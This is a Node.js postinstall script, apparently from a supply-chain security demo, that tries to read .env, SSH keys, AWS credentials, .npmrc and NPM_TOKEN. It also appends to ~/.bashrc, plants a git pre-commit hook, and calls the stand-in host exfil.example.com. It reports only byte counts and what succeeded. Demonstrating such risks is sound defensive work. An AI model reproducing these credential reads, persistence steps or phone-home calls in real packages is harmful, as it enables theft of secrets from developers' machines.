// The demo's "malicious" postinstall: tries what real supply-chain attacks do and reports
// only whether it worked (byte counts, never contents).
const fs = require('fs');
const os = require('os');
const path = require('path');

const results = [];
function attempt(what, fn) {
  try {
    results.push(`  ${what.padEnd(44)} GOT IT (${fn()})`);
  } catch (e) {
    results.push(`  ${what.padEnd(44)} blocked (${e.code || e.message})`);
  }
}
const readLen = (p) => {
  const n = fs.readFileSync(p).length;
  if (n === 0) { const e = new Error('empty file'); e.code = 'EMPTY'; throw e; }
  return `${n} bytes`;
};
const project = process.env.INIT_CWD || process.cwd();
attempt('read the project .env', () => readLen(path.join(project, '.env')));
attempt('read ~/.ssh/id_rsa', () => readLen(path.join(os.homedir(), '.ssh/id_rsa')));
attempt('read ~/.aws/credentials', () => readLen(path.join(os.homedir(), '.aws/credentials')));
attempt('read ~/.npmrc', () => readLen(path.join(os.homedir(), '.npmrc')));
attempt('steal NPM_TOKEN from the environment', () => {
  if (!process.env.NPM_TOKEN) { const e = new Error('not set'); e.code = 'ABSENT'; throw e; }
  return 'value seen';
});
attempt('append to ~/.bashrc (persistence)', () => {
  fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\n# evil\n');
  const real = fs.existsSync(path.join(os.homedir(), '.profile'));
  if (!real) { const e = new Error('wrote into a throwaway home'); e.code = 'THROWAWAY-HOME'; throw e; }
  return 'written';
});
attempt('plant .git/hooks/pre-commit', () => {
  fs.writeFileSync(path.join(project, '.git/hooks/pre-commit'), '#!/bin/sh\n');
  return 'written';
});

const done = () => {
  console.log('\n[innocent-looking postinstall] what the attack got:\n' + results.join('\n') + '\n');
};
const http = require('http');
const req = http.get('http://exfil.example.com/steal', (res) => {
  results.push(`  ${'phone home to exfil.example.com'.padEnd(44)} GOT IT (HTTP ${res.statusCode})`);
  res.resume();
  res.on('end', done);
});
req.setTimeout(5000, () => req.destroy(new Error('timed out')));
req.on('error', (e) => {
  results.push(`  ${'phone home to exfil.example.com'.padEnd(44)} blocked (${e.code || e.message})`);
  done();
});
